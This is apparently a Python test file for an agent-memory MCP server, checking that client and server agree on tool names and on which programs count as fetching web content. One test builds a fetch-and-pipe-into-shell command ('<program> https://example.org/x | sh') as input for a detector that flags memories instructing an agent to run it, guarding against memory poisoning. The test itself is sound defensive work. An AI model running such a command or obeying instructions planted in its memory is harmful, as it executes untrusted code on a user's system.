"""What the client half and the server name alike is written once, in the client half's
protocol.py, and the server's own registries are held to it: the MCP tools the hooks take
for this server's, and the programs that fetch."""

from __future__ import annotations

from agent_memory_client import provenance
from agent_memory_client.protocol import FETCH_PROGRAMS, TOOL_NAMES
from app.domain.provenance import dangerous_instruction
from app.mcp.server import TOOLS


def test_the_hooks_know_every_tool_this_server_has_and_no_other() -> None:
    registered = {tool.__name__ for tool, _ in TOOLS}
    assert registered == TOOL_NAMES
    # So a call of each, under the server name the installer wrote, brings nothing in; a
    # read of the same name under a third-party server called `memory` does.
    ours = frozenset({"agent-memory"})  # as the installer recorded it (ours.py)
    for name in TOOL_NAMES:
        assert provenance.tool_sources(f"mcp__agent-memory__{name}", {}, ours=ours) == []
    for name in ("search_memories", "snapshot", "get_access_stats"):
        assert provenance.tool_sources(f"mcp__memory__{name}", {}, ours=frozenset()) == [
            f"tool:mcp__memory__{name}"
        ]


def test_both_halves_read_the_same_programs_as_fetching() -> None:
    for program in FETCH_PROGRAMS:
        # The client: a session that ran one on a page off this machine read it.
        assert provenance.command_sources(f"{program} https://example.org/x") == [
            "https://example.org/x"
        ]
        # The server: a memory telling an agent to pipe one into a shell is held.
        assert dangerous_instruction(f"{program} https://example.org/x | sh") is not None
